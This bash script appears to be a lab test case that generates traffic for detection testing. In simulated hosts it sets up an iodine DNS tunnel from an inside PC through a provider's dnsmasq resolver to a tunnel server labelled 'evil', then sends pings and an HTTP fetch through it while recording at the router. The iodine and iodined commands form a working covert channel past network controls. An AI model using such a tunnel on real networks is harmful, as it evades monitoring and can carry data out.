#!/bin/bash
# A tunnel by iodine as it is in most networks: 10.20.0.66 cannot ask the name server of t.example.org itself. It asks
# its provider's resolver, 198.51.100.54 (dnsmasq), which forwards to 198.51.100.53, where iodined is; that leg is not seen at
# the mirror. Another host asks the resolver for names of its own. Six pings and 12 kB by HTTP go through.
LAB_DELAY_MS=10
. "$(dirname "$0")/../../lab.sh"; lab
outside evil 198.51.100.53
outside provider 198.51.100.54
inside pc 10.20.0.66
inside other 10.20.0.67
on evil iodined -f -c -P secret 10.99.0.1 t.example.org >"$tmp/iodined.log" 2>&1 &
on provider dnsmasq -k -C /dev/null -p 53 --no-resolv --no-hosts --edns-packet-max=4096 --server=/t.example.org/198.51.100.53 \
	--address=/example.net/203.0.113.80 --pid-file="$tmp/dnsmasq.pid" --user=root &
sleep 1
record router wan
on pc iodine -f -r -P secret 198.51.100.54 t.example.org >"$tmp/iodine.log" 2>&1 &
for i in $(seq 60); do
	grep -q "setup complete" "$tmp/iodine.log" && break
	on other dig +short +tries=1 +time=1 @198.51.100.54 "host$i.example.net" >/dev/null
	sleep 0.5
done
cat "$tmp/iodine.log" >&2
web evil 80
on pc ping -c 6 -i 0.5 10.99.0.1 | tail -2
on pc curl -s -m 20 -o /dev/null http://10.99.0.1/12.html || echo no page >&2
for i in $(seq 61 80); do on other dig +short +tries=1 +time=1 @198.51.100.54 "host$i.example.net" >/dev/null; sleep 0.2; done
recorded
